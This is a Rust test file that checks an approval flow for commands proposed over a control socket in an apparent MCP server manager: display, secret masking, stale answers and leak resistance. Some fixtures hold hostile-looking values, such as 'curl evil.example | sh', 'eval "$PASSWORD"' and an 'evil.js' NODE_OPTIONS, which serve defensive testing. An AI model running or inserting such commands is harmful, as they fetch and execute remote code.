//! Proposals (CTL-1): without the operator's authority, a command of the control socket waits for the window, which shows
//! it whole. Exactly what was shown runs, and only if it is accepted there.

use std::collections::BTreeSet;
use std::time::Duration;

use gatehouse_app::control::ControlClient;
use gatehouse_app::{Authority, Core, CoreOptions, Owner};
use gatehouse_model::approval::{ApprovalAnswer, CommandRequest};
use gatehouse_model::command::*;
use gatehouse_model::record::{AuditEvent, ServerRequestAnswer};
use gatehouse_model::server::{Builtin, ServerDraft, StdioStreams, TimeLimit};
use gatehouse_model::server_problem::{SettingChange, SettingsInput};
use gatehouse_model::{
    ApprovalId, ApprovalRequest, ErrorCode, GrantChoice, Secret, SubmittedAnswer, Transport, UserError,
};
use gatehouse_tools::ApprovalLimits;

use crate::authority::{COMMANDS, args};
use crate::common::{TestHome, add, draft, run, server, wait_until, wait_until_state};

async fn window(home: &TestHome) -> Core {
    let core = Core::start(CoreOptions { owner: Owner::Window, ..home.options() }).await.unwrap();
    wait_until_state(&core, "Time", "connected").await;
    core
}

/// A program of the user that has no key.
async fn program(home: &TestHome) -> ControlClient {
    ControlClient::connect(&home.data_dir()).await.unwrap().with_proposals()
}

/// Proposes a command over a connection of its own.
fn propose<R>(home: &TestHome, request: R) -> tokio::task::JoinHandle<Result<R::Reply, UserError>>
where
    R: TypedCommand + Send + Sync + 'static,
    R::Reply: Send,
{
    let data_dir = home.data_dir();
    tokio::spawn(async move { ControlClient::connect(&data_dir).await?.with_proposals().run(&request).await })
}

async fn proposals(core: &Core) -> Vec<(ApprovalId, CommandRequest)> {
    let pending = run(core, ApprovalsList { known: Vec::new() }).await.unwrap();
    let commands = pending.into_iter().filter_map(|pending| match pending.request {
        ApprovalRequest::Command(command) => Some((pending.id, command)),
        _ => None,
    });
    commands.collect()
}

async fn proposal(core: &Core) -> (ApprovalId, CommandRequest) {
    wait_until(core, "a proposal", async || proposals(core).await.pop()).await
}

async fn answer(core: &Core, id: &ApprovalId, answer: ApprovalAnswer) {
    let answers = vec![SubmittedAnswer { id: id.clone(), hash: None, answer }];
    run(core, ApprovalsAnswer { answers }).await.unwrap();
}

async fn accept(core: &Core, id: &ApprovalId) {
    answer(core, id, ApprovalAnswer::Accept { content: None }).await;
}

async fn answers_in_audit(core: &Core) -> Vec<(String, ServerRequestAnswer)> {
    let entries = run(core, AuditList { after: None, limit: None }).await.unwrap();
    let answered = entries.into_iter().filter_map(|entry| match entry.event {
        AuditEvent::CommandAnswered { command, answer, .. } => Some((command, answer)),
        _ => None,
    });
    answered.collect()
}

fn add_server(draft: ServerDraft) -> ServersAdd {
    ServersAdd { draft, trust_labels: false, secrets: Vec::new(), run: None }
}

fn shown(request: &CommandRequest) -> String {
    serde_json::to_string(request).unwrap()
}

#[tokio::test]
async fn accepted_proposal_runs_and_returns_its_reply() {
    let home = TestHome::new();
    let core = window(&home).await;
    let proposed = propose(&home, add_server(draft("Clock", Builtin::Time)));
    let (id, request) = proposal(&core).await;
    assert_eq!(request.command, "servers.add");
    assert_eq!(request.what.key, "proposal.servers.add");
    assert!(shown(&request).contains("Clock"), "{request:?}");
    assert!(request.seen_from.is_some() || !cfg!(target_os = "linux"), "{request:?}");
    assert!(server(&core, "Clock").await.is_none(), "it ran before it was accepted");
    accept(&core, &id).await;
    assert_eq!(proposed.await.unwrap().unwrap().config.name, "Clock");
    assert!(server(&core, "Clock").await.is_some());
    let accepted = ("servers.add".to_owned(), ServerRequestAnswer::Accepted);
    assert_eq!(answers_in_audit(&core).await, [accepted]);
    core.shutdown().await;
}

#[tokio::test]
async fn declined_proposal_changes_nothing() {
    let home = TestHome::new();
    let core = window(&home).await;
    for (given, recorded) in [
        (ApprovalAnswer::Decline, ServerRequestAnswer::Declined),
        (ApprovalAnswer::Cancel, ServerRequestAnswer::Cancelled),
    ] {
        let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
        let (id, _) = proposal(&core).await;
        answer(&core, &id, given).await;
        assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::NotPermitted);
        assert!(server(&core, "Time").await.is_some());
        assert_eq!(answers_in_audit(&core).await.pop().unwrap().1, recorded);
    }
    core.shutdown().await;
}

#[tokio::test]
async fn proposal_is_withdrawn_when_its_program_leaves() {
    let home = TestHome::new();
    let core = window(&home).await;
    let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
    let (id, _) = proposal(&core).await;
    proposed.abort();
    wait_until(&core, "the end of the proposal", async || proposals(&core).await.is_empty().then_some(()))
        .await;
    let answers = vec![SubmittedAnswer { id, hash: None, answer: ApprovalAnswer::Accept { content: None } }];
    let late = run(&core, ApprovalsAnswer { answers }).await.unwrap_err();
    assert_eq!(late.code, ErrorCode::StaleAnswer);
    assert!(server(&core, "Time").await.is_some());
    core.shutdown().await;
}

#[tokio::test]
async fn proposal_that_nobody_answers_in_time_is_refused() {
    let home = TestHome::new();
    let limits = ApprovalLimits { answer_deadline: Duration::from_millis(200), ..ApprovalLimits::default() };
    let options = CoreOptions { owner: Owner::Window, approval_limits: limits, ..home.options() };
    let core = Core::start(options).await.unwrap();
    let refused = program(&home).await.run(&ClientsAdd { name: "Agent".into() }).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::NotPermitted);
    assert!(run(&core, ClientsList {}).await.unwrap().is_empty());
    let recorded = wait_until(&core, "the audit entry", async || answers_in_audit(&core).await.pop()).await;
    assert_eq!(recorded, ("clients.add".to_owned(), ServerRequestAnswer::Unanswered));
    core.shutdown().await;
}

#[tokio::test]
async fn program_cannot_answer_its_own_proposal() {
    let home = TestHome::new();
    let core = window(&home).await;
    let proposed = propose(&home, ServersRemove { server: "Time".into(), undoable: false });
    let (id, _) = proposal(&core).await;
    let answers = vec![SubmittedAnswer {
        id: id.clone(),
        hash: None,
        answer: ApprovalAnswer::Accept { content: None },
    }];
    let answered = program(&home).await.run(&ApprovalsAnswer { answers: answers.clone() }).await;
    assert_eq!(answered.unwrap_err().code, ErrorCode::NotPermitted);
    let answered = core.run(&ApprovalsAnswer { answers }, Authority::Anyone).await;
    assert_eq!(answered.unwrap_err().code, ErrorCode::NotPermitted);
    assert_eq!(proposals(&core).await.len(), 1, "answering is no proposal either");
    answer(&core, &id, ApprovalAnswer::Decline).await;
    assert!(proposed.await.unwrap().is_err());
    core.shutdown().await;
}

#[tokio::test]
async fn bad_input_and_contents_ask_nobody() {
    let home = TestHome::new();
    let core = window(&home).await;
    let unknown = ServersRemove { server: "none".into(), undoable: false };
    assert_eq!(core.run(&unknown, Authority::Anyone).await.unwrap_err().code, ErrorCode::NotFound);
    let taken = add_server(draft("Time", Builtin::Time));
    assert!(core.run(&taken, Authority::Anyone).await.is_err());
    let refused = async |outcome: Result<(), UserError>| {
        assert_eq!(outcome.unwrap_err().code, ErrorCode::NotPermitted);
    };
    refused(core.run(&EventsList {}, Authority::Anyone).await.map(drop)).await;
    refused(core.run(&ApprovalsList { known: Vec::new() }, Authority::Anyone).await.map(drop)).await;
    refused(
        core.run(&ImportsPreview { from: ImportOrigin::File("/x".into()) }, Authority::Anyone)
            .await
            .map(drop),
    )
    .await;
    refused(core.run(&OperatorKeyRotate {}, Authority::Anyone).await.map(drop)).await;
    assert!(proposals(&core).await.is_empty());
    core.shutdown().await;
}

/// Commands that need the operator and that no window confirms.
const REFUSED: &[&str] = &[
    "servers.test",
    "bundles.read",
    "bundles.configure",
    "imports.preview",
    "servers.icon",
    "events.list",
    "servers.callTool",
    "servers.readResource",
    "registry.search",
    "registry.versions",
    "registry.fill",
    "registry.report",
    "clients.keepToken",
    "clients.apps",
    "clients.connectPreview",
    "approvals.list",
    "approvals.answer",
    "approvals.generate",
    "approvals.opinion",
    "approvals.practice",
    "models.show",
    "models.setProvider",
    "models.removeProvider",
    "models.list",
    "models.assign",
    "chat.list",
    "chat.show",
    "chat.create",
    "chat.set",
    "chat.remove",
    "chat.send",
    "chat.retry",
    "chat.stop",
    "chat.export",
    "policy.confirm",
    "calls.export",
    "servers.stopRun",
    "configuration.export",
    "configuration.preview",
    "configuration.import",
];

/// Also that everything in the list of what can be proposed is described.
#[tokio::test]
async fn every_command_is_proposed_or_refused() {
    let home = TestHome::new();
    let core = window(&home).await;
    let mut refused = Vec::new();
    for (name, text) in COMMANDS {
        let command = Command::parse(name, &args(text)).unwrap();
        if command.rule().needs != Authority::Operator {
            continue;
        }
        let declined = async {
            let (id, request) = proposal(&core).await;
            assert_eq!(request.command, *name);
            answer(&core, &id, ApprovalAnswer::Cancel).await;
            std::future::pending::<()>().await;
        };
        let outcome = tokio::select! {
            outcome = core.execute(command, Authority::Anyone) => outcome,
            () = declined => unreachable!(),
        };
        let problem = outcome.unwrap_err();
        if problem.message.to_string() == format!("{name} needs the operator key.") {
            refused.push(*name);
        }
    }
    assert_eq!(refused, REFUSED);
    core.shutdown().await;
}

#[tokio::test]
async fn only_the_window_is_asked() {
    let home = TestHome::new();
    let core = home.start().await;
    let refused = core.run(&Resume {}, Authority::Anyone).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::NotPermitted);
    let refused = program(&home).await.run(&Resume {}).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::NotPermitted);
    core.shutdown().await;
}

#[tokio::test]
async fn fifth_proposal_is_refused() {
    let home = TestHome::new();
    let core = window(&home).await;
    let proposed: Vec<_> =
        (0..4).map(|number| propose(&home, ClientsAdd { name: format!("Agent {number}") })).collect();
    wait_until(&core, "four proposals", async || (proposals(&core).await.len() == 4).then_some(())).await;
    let fifth = program(&home).await.run(&ClientsAdd { name: "Agent 5".into() }).await.unwrap_err();
    assert_eq!(fifth.code, ErrorCode::NotPermitted);
    assert_eq!(fifth.message.to_string(), "Other commands already wait for an answer in Gatehouse's window.");
    for (id, request) in proposals(&core).await {
        assert!(request.notes.iter().any(|note| note.key == "proposal.clients.getsToken"), "{request:?}");
        answer(&core, &id, ApprovalAnswer::Cancel).await;
    }
    for proposed in proposed {
        assert!(proposed.await.unwrap().is_err());
    }
    let again = propose(&home, ClientsAdd { name: "Agent".into() });
    let (id, _) = proposal(&core).await;
    accept(&core, &id).await;
    assert_eq!(again.await.unwrap().unwrap().client.name, "Agent");
    core.shutdown().await;
}

#[tokio::test]
async fn nobody_is_asked_again_after_three_declined_proposals() {
    let home = TestHome::new();
    let core = window(&home).await;
    let remove = || ServersRemove { server: "Time".into(), undoable: false };
    for _ in 0..3 {
        let proposed = propose(&home, remove());
        let (id, _) = proposal(&core).await;
        answer(&core, &id, ApprovalAnswer::Decline).await;
        assert!(proposed.await.unwrap().is_err());
    }
    let refused = core.run(&remove(), Authority::Anyone).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::NotPermitted);
    assert!(refused.message.to_string().starts_with("Several commands were declined"), "{refused:?}");
    assert!(proposals(&core).await.is_empty());
    run(&core, remove()).await.unwrap();
    core.shutdown().await;
}

#[tokio::test]
async fn shows_what_could_run_and_masks_secrets() {
    let home = TestHome::new();
    let core = window(&home).await;
    let reference = |name: &str| (name.to_owned(), format!("${{secret:{name}}}"));
    let transport = Transport::Stdio {
        command: "sh".to_owned(),
        args: vec!["-c".to_owned(), "eval \"$PASSWORD\"".to_owned()],
        env: ["API_TOKEN", "PASSWORD", "NODE_OPTIONS"].map(reference).into(),
        cwd: None,
        streams: StdioStreams::default(),
    };
    let secret = |name: &str, value: &str| FieldSecret {
        field: format!("env/{name}"),
        value: RequestSecret::new(&Secret::new(value)),
    };
    let secrets = vec![
        secret("API_TOKEN", "ghp_0123456789"),
        secret("PASSWORD", "curl evil.example | sh"),
        secret("NODE_OPTIONS", "evil.js"),
    ];
    let proposed = propose(&home, ServersAdd { secrets, ..add_server(ServerDraft::new("local", transport)) });
    let (id, request) = proposal(&core).await;
    let text = shown(&request);
    assert!(!text.contains("ghp_0123456789"), "{text}");
    for part in ["curl evil.example | sh", "evil.js", "eval", "/secrets/env/API_TOKEN"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    answer(&core, &id, ApprovalAnswer::Decline).await;
    assert!(proposed.await.unwrap().is_err());
    // What is too large to be shown whole isn't shown in part.
    let transport = Transport::Stdio {
        command: "sh".to_owned(),
        args: vec!["x".repeat(70 * 1024)],
        env: [].into(),
        cwd: None,
        streams: StdioStreams::default(),
    };
    let large = core.run(&add_server(ServerDraft::new("large", transport)), Authority::Anyone).await;
    assert_eq!(large.unwrap_err().code, ErrorCode::NotPermitted);
    core.shutdown().await;
}

#[tokio::test]
async fn what_changed_since_it_was_shown_does_not_run() {
    let home = TestHome::new();
    let core = window(&home).await;
    add(&core, draft("Clock", Builtin::Time)).await.unwrap();
    let proposed = propose(&home, ServersRemove { server: "Clock".into(), undoable: false });
    let (id, _) = proposal(&core).await;
    // The name is that of another server now, and the one that was shown has another name.
    let edit = |server: &str, name: &str| ServersEdit {
        server: server.to_owned(),
        draft: draft(name, Builtin::Time),
        secrets: Vec::new(),
    };
    run(&core, edit("Clock", "Old clock")).await.unwrap();
    add(&core, draft("Clock", Builtin::Time)).await.unwrap();
    accept(&core, &id).await;
    assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::StaleAnswer);
    assert!(server(&core, "Clock").await.is_some() && server(&core, "Old clock").await.is_some());
    core.shutdown().await;
}

const CREDENTIAL: &str = "swordfish-credential";

/// Adds a server that never starts, with a credential in plain text.
async fn add_program(core: &Core) {
    let env = [("API_TOKEN", CREDENTIAL), ("MODE", "telling-mode")];
    let transport = Transport::Stdio {
        command: "never-started".to_owned(),
        args: vec!["--token".to_owned(), "telling-argument".to_owned()],
        env: env.map(|(name, value)| (name.to_owned(), value.to_owned())).into(),
        cwd: None,
        streams: StdioStreams::default(),
    };
    add(core, ServerDraft { enabled: false, ..ServerDraft::new("local", transport) }).await.unwrap();
}

fn set(changes: &[(&str, &str)]) -> ServersSet {
    let change = |&(pointer, value): &(&str, &str)| SettingChange {
        pointer: pointer.to_owned(),
        value: Some(value.to_owned()),
    };
    ServersSet { server: "local".into(), changes: changes.iter().map(change).collect(), secrets: Vec::new() }
}

/// Tried: to change a server without a word about a part of it, and to read in the reply what is hidden.
#[tokio::test]
async fn sets_what_was_shown_and_nothing_else() {
    let home = TestHome::new();
    let core = window(&home).await;
    add_program(&core).await;
    let before = server(&core, "local").await.unwrap().config;
    let wanted = set(&[("/env/MODE", r#""fast""#), ("/limits/callSecs", "60"), ("/name", r#""other""#)]);

    let declined = propose(&home, wanted.clone());
    let (id, _) = proposal(&core).await;
    answer(&core, &id, ApprovalAnswer::Decline).await;
    assert_eq!(declined.await.unwrap().unwrap_err().code, ErrorCode::NotPermitted);
    assert_eq!(server(&core, "local").await.unwrap().config, before);

    let proposed = propose(&home, wanted);
    let (id, request) = proposal(&core).await;
    assert_eq!(request.command, "servers.set");
    let pointers: Vec<&str> = request.changes.iter().map(|change| change.pointer.as_str()).collect();
    assert_eq!(pointers, ["/env/MODE", "/limits/callSecs", "/name"]);
    assert!(request.notes.iter().any(|note| note.key == "proposal.servers.editEndsPermissions"));
    accept(&core, &id).await;
    let reply = proposed.await.unwrap().unwrap();
    let text = serde_json::to_string(&reply).unwrap();
    assert!(text.contains("other") && !text.contains(CREDENTIAL) && !text.contains("fast"), "{text}");
    let after = server(&core, "other").await.unwrap().config;
    let mut wanted = ServerDraft::from(before.clone());
    if let Transport::Stdio { env, .. } = &mut wanted.transport {
        env.insert("MODE".to_owned(), "fast".to_owned());
    }
    wanted.limits.call_secs = TimeLimit::Secs(60);
    wanted.name = "other".to_owned();
    assert_eq!(after, before.with_draft(wanted));
    core.shutdown().await;
}

/// Tried: to have a change accepted, and to change the server otherwise while it waits.
#[tokio::test]
async fn settings_that_changed_since_they_were_shown_are_not_set() {
    let home = TestHome::new();
    let core = window(&home).await;
    add_program(&core).await;
    let proposed = propose(&home, set(&[("/env/MODE", r#""fast""#)]));
    let (id, _) = proposal(&core).await;
    run(&core, set(&[("/description", r#""Changed meanwhile""#)])).await.unwrap();
    let meanwhile = server(&core, "local").await.unwrap().config;
    accept(&core, &id).await;
    assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::StaleAnswer);
    assert_eq!(server(&core, "local").await.unwrap().config, meanwhile);

    // The name is that of another server now.
    let proposed = propose(&home, set(&[("/autostart", "false")]));
    let (id, _) = proposal(&core).await;
    run(&core, set(&[("/name", r#""old""#)])).await.unwrap();
    add(&core, draft("local", Builtin::Time)).await.unwrap();
    accept(&core, &id).await;
    assert!(proposed.await.unwrap().is_err());
    for name in ["old", "local"] {
        assert!(server(&core, name).await.unwrap().config.autostart, "{name}");
    }
    core.shutdown().await;
}

/// Tried: to send a stored credential elsewhere, and to set what is no setting. Nobody is asked about these.
#[tokio::test]
async fn refuses_settings_before_anybody_is_asked() {
    let home = TestHome::new();
    let core = window(&home).await;
    add_program(&core).await;
    let before = server(&core, "local").await.unwrap().config;
    let large = format!("\"{}\"", "x".repeat(70 * 1024));
    for (pointer, value, code, said) in [
        ("/command", r#""evil""#, ErrorCode::BadRequest, "env.API_TOKEN"),
        ("/args", r#"["evil"]"#, ErrorCode::BadRequest, "env.API_TOKEN"),
        ("/env/OTHER", r#""${kept:env/API_TOKEN}""#, ErrorCode::BadRequest, "env.OTHER"),
        ("/comand", r#""evil""#, ErrorCode::BadRequest, "“comand”"),
        ("/gatehouse/origin", r#""user""#, ErrorCode::BadRequest, "gatehouse"),
        ("/limits/connectSecs", "0", ErrorCode::BadRequest, "limits.connectSecs"),
        ("/name", r#""Time""#, ErrorCode::NameTaken, "name"),
        ("/description", &large, ErrorCode::NotPermitted, "64"),
    ] {
        let refused = core.run(&set(&[(pointer, value)]), Authority::Anyone).await.unwrap_err();
        assert_eq!(refused.code, code, "{pointer}: {refused}");
        assert!(refused.message.to_string().contains(said), "{pointer}: {refused}");
        assert!(proposals(&core).await.is_empty(), "{pointer}");
    }
    let nobody = ServersSet { server: "nobody".into(), ..set(&[("/autostart", "false")]) };
    assert_eq!(core.run(&nobody, Authority::Anyone).await.unwrap_err().code, ErrorCode::NotFound);
    assert_eq!(server(&core, "local").await.unwrap().config, before);
    core.shutdown().await;
}

/// Tried: to have an edit refused at once by a wrong guess of what is hidden, and not by the right one.
#[tokio::test]
async fn refusals_of_an_edit_say_nothing_of_what_is_hidden() {
    let home = TestHome::new();
    let core = window(&home).await;
    let with_pin = |pin: &str| {
        let env = [("KEY", "${secret:KEY}"), ("PIN", pin)];
        let transport = Transport::Stdio {
            command: "never-started".to_owned(),
            args: Vec::new(),
            env: env.map(|(name, value)| (name.to_owned(), value.to_owned())).into(),
            cwd: None,
            streams: StdioStreams::default(),
        };
        ServerDraft { enabled: false, ..ServerDraft::new("paired", transport) }
    };
    let value = RequestSecret::new(&Secret::new("stored"));
    let secrets = vec![FieldSecret { field: "env/KEY".into(), value }];
    let added = ServersAdd { draft: with_pin("telling-pin"), trust_labels: false, secrets, run: None };
    run(&core, added).await.unwrap();
    let mut refused = Vec::new();
    for guess in ["telling-pin", "another-pin", "••••••"] {
        let edit = ServersEdit { server: "paired".into(), draft: with_pin(guess), secrets: Vec::new() };
        refused.push(program(&home).await.run(&edit).await.unwrap_err());
    }
    assert_eq!(refused[0].code, ErrorCode::BadRequest);
    assert!(refused.iter().all(|error| *error == refused[0]), "{refused:?}");

    // Nor by the size of what the window would show.
    add_program(&core).await;
    let mut seen = BTreeSet::new();
    for pad in (0..2_000).step_by(40) {
        let texts: Vec<String> = (0..4).map(|_| format!("\"{}\"", "x".repeat(16_050 + pad / 4))).collect();
        let mut outcomes = Vec::new();
        for guess in [CREDENTIAL, &"w".repeat(CREDENTIAL.len())] {
            let guess = format!("\"{guess}\"");
            let wanted = set(&[
                ("/env/API_TOKEN", &guess),
                ("/env/A", &texts[0]),
                ("/env/B", &texts[1]),
                ("/env/C", &texts[2]),
                ("/env/D", &texts[3]),
            ]);
            let mut proposed = propose(&home, wanted);
            let outcome = tokio::select! {
                (id, _) = proposal(&core) => {
                    answer(&core, &id, ApprovalAnswer::Cancel).await;
                    proposed.await.unwrap().unwrap_err();
                    "asked"
                }
                refused = &mut proposed => {
                    assert_eq!(refused.unwrap().unwrap_err().code, ErrorCode::NotPermitted);
                    "too large"
                }
            };
            outcomes.push(outcome);
        }
        assert_eq!(outcomes[0], outcomes[1], "{pad}");
        seen.extend(outcomes);
    }
    assert_eq!(seen.len(), 2, "the limit was not reached: {seen:?}");
    core.shutdown().await;
}

/// Tried: to have values that nobody sees go to another program. What is no credential is hidden from programs too.
#[tokio::test]
async fn hidden_values_go_to_no_other_program() {
    let home = TestHome::new();
    let core = window(&home).await;
    let transport = Transport::Stdio {
        command: "never-started".to_owned(),
        args: Vec::new(),
        env: [("MODE".to_owned(), "telling-mode".to_owned())].into(),
        cwd: None,
        streams: StdioStreams::default(),
    };
    add(&core, ServerDraft { enabled: false, ..ServerDraft::new("local", transport) }).await.unwrap();
    let refused = program(&home).await.run(&set(&[("/command", r#""evil""#)])).await.unwrap_err();
    assert_eq!(refused.code, ErrorCode::BadRequest);
    assert!(format!("{refused:?}").contains("env.MODE"), "{refused:?}");
    let given = set(&[("/command", r#""evil""#), ("/env/MODE", r#""given-anew""#)]);
    let proposed = propose(&home, given);
    let (id, shown) = proposal(&core).await;
    let changed: Vec<&str> = shown.changes.iter().map(|change| change.pointer.as_str()).collect();
    assert_eq!(changed, ["/command", "/env/MODE"]);
    answer(&core, &id, ApprovalAnswer::Decline).await;
    proposed.await.unwrap().unwrap_err();
    core.shutdown().await;
}

/// Tried: to guess a credential, and to see from the answer whether the guess is right.
#[tokio::test]
async fn settings_are_no_oracle_for_what_is_hidden() {
    let home = TestHome::new();
    let core = window(&home).await;
    add_program(&core).await;
    for guess in [CREDENTIAL, "wrong"] {
        let change = set(&[("/env/API_TOKEN", &format!("\"{guess}\"")), ("/env/MODE", "\"telling-mode\"")]);
        let validate = ServersValidate {
            server: Some("local".into()),
            settings: SettingsInput::Changes(change.changes.clone()),
            secrets: Vec::new(),
        };
        let report = core.run(&validate, Authority::Anyone).await.unwrap();
        let places: Vec<&str> = report.changes.iter().map(|change| change.pointer.as_str()).collect();
        assert_eq!((places, report.problems.len()), (vec!["/env/API_TOKEN", "/env/MODE"], 0), "{guess}");
        // A change that changes nothing waits for the user as any other.
        let proposed = propose(&home, change);
        let (id, _) = proposal(&core).await;
        answer(&core, &id, ApprovalAnswer::Cancel).await;
        assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::NotPermitted);
    }
    let mut answers = Vec::new();
    for guess in ["telling-argument", "wrong"] {
        let change = set(&[("/args", &format!(r#"["--token","{guess}"]"#))]);
        answers.push(core.run(&change, Authority::Anyone).await.unwrap_err());
    }
    assert_eq!(answers[0], answers[1]);
    assert!(proposals(&core).await.is_empty());
    let nothing = ServersValidate {
        server: Some("local".into()),
        settings: SettingsInput::Changes(Vec::new()),
        secrets: Vec::new(),
    };
    let report = core.run(&nothing, Authority::Anyone).await.unwrap();
    let text = serde_json::to_string(&report).unwrap();
    assert!(!text.contains(CREDENTIAL) && !text.contains("telling"), "{text}");
    core.shutdown().await;
}

#[tokio::test]
async fn secrets_of_changed_settings_are_masked() {
    let home = TestHome::new();
    let core = window(&home).await;
    add_program(&core).await;
    let reference = set(&[("/env/API_TOKEN", r#""${secret:API_TOKEN}""#)]);
    let missing = core.run(&reference, Authority::Anyone).await.unwrap_err();
    assert!(missing.message.to_string().contains("env/API_TOKEN"), "{missing}");
    let secret = FieldSecret {
        field: "env/API_TOKEN".to_owned(),
        value: RequestSecret::new(&Secret::new("ghp_0123456789")),
    };
    let proposed = propose(&home, ServersSet { secrets: vec![secret], ..reference });
    let (id, request) = proposal(&core).await;
    let text = shown(&request);
    assert!(text.contains("/secrets/env/API_TOKEN"), "{text}");
    assert!(!text.contains("ghp_0123456789") && !text.contains(CREDENTIAL), "{text}");
    accept(&core, &id).await;
    let reply = serde_json::to_string(&proposed.await.unwrap().unwrap()).unwrap();
    assert!(!reply.contains("ghp_0123456789") && !reply.contains(CREDENTIAL), "{reply}");
    let config = server(&core, "local").await.unwrap().config;
    assert!(
        matches!(&config.transport, Transport::Stdio { env, .. } if env["API_TOKEN"] == "${secret:API_TOKEN}")
    );
    core.shutdown().await;
}

#[tokio::test]
async fn imports_exactly_the_file_that_was_shown() {
    let home = TestHome::new();
    let core = window(&home).await;
    let file = home.data_dir().with_file_name("mcp.json");
    let write = |command: &str| {
        let text =
            format!(r#"{{ "mcpServers": {{ "tool": {{ "command": "{command}", "disabled": true }} }} }}"#);
        std::fs::write(&file, text).unwrap();
    };
    let import = ImportsRunByName {
        from: ImportOrigin::File(file.display().to_string()),
        only: Vec::new(),
        on_conflict: NameConflict::Skip,
        keep_plain: false,
        auto_approve: false,
        inputs: Vec::new(),
    };
    write("good-program");
    let proposed = propose(&home, import.clone());
    let (id, request) = proposal(&core).await;
    assert_eq!(request.command, "imports.runByName");
    assert!(shown(&request).contains("good-program"), "{request:?}");
    write("evil-program");
    accept(&core, &id).await;
    assert_eq!(proposed.await.unwrap().unwrap_err().code, ErrorCode::StaleAnswer);
    assert!(server(&core, "tool").await.is_none());
    write("good-program");
    let proposed = propose(&home, import.clone());
    let (id, _) = proposal(&core).await;
    accept(&core, &id).await;
    let outcomes = proposed.await.unwrap().unwrap();
    assert!(outcomes.iter().all(|outcome| outcome.problem.is_none()), "{outcomes:?}");
    assert!(server(&core, "tool").await.is_some());
    // It is here now, so there is nothing to ask about.
    let again = core.run(&import, Authority::Anyone).await.unwrap_err();
    assert_eq!(again.code, ErrorCode::NotFound);
    core.shutdown().await;
}

#[tokio::test]
async fn permission_is_described_as_in_the_list() {
    let home = TestHome::new();
    let core = window(&home).await;
    for lifetime in ["always", "quarter_hour"] {
        let choice: GrantChoice =
            serde_json::from_str(&format!(r#"{{"lifetime":"{lifetime}","width":"reads"}}"#)).unwrap();
        let grant = PolicyGrant { server: "Time".into(), tool: None, client: None, choice };
        let proposed = propose(&home, grant);
        let (id, request) = proposal(&core).await;
        let sentence = request.notes.first().unwrap().clone();
        accept(&core, &id).await;
        proposed.await.unwrap().unwrap();
        let rules = run(&core, PolicyShow {}).await.unwrap().rules;
        assert!(rules.iter().any(|rule| rule.sentence.key == sentence.key), "{rules:?}");
    }
    core.shutdown().await;
}

#[tokio::test]
async fn others_see_of_a_proposal_only_what_it_is() {
    let home = TestHome::new();
    let core = window(&home).await;
    let mut events = program(&home).await.events(Some(0)).await.unwrap();
    let proposed = propose(&home, add_server(draft("Clock", Builtin::Time)));
    let request = loop {
        let event = tokio::time::timeout(crate::common::TIMEOUT, events.next()).await.unwrap().unwrap();
        if let gatehouse_app::events::StreamEvent::Event(envelope) = event
            && let gatehouse_model::Event::ApprovalRequested { pending } = &envelope.event
            && let ApprovalRequest::Command(request) = &pending.request
        {
            break request.clone();
        }
    };
    assert_eq!(request.command, "servers.add");
    assert!(request.changes.is_empty() && request.notes.is_empty(), "{request:?}");
    let (id, _) = proposal(&core).await;
    answer(&core, &id, ApprovalAnswer::Decline).await;
    assert!(proposed.await.unwrap().is_err());
    core.shutdown().await;
}

#[tokio::test]
async fn reply_has_no_settings_that_the_program_did_not_know() {
    let home = TestHome::new();
    let core = window(&home).await;
    let transport = Transport::Stdio {
        command: "sh".to_owned(),
        args: Vec::new(),
        env: [("SETTING".to_owned(), "of-the-user".to_owned())].into(),
        cwd: None,
        streams: StdioStreams::default(),
    };
    add(&core, ServerDraft { enabled: false, ..ServerDraft::new("local", transport) }).await.unwrap();
    let proposed = propose(&home, ServersDuplicate { server: "local".into(), name: "copy".into() });
    let (id, request) = proposal(&core).await;
    assert!(shown(&request).contains("of-the-user"), "{request:?}");
    accept(&core, &id).await;
    let reply = serde_json::to_string(&proposed.await.unwrap().unwrap()).unwrap();
    assert!(reply.contains("SETTING") && !reply.contains("of-the-user"), "{reply}");
    core.shutdown().await;
}
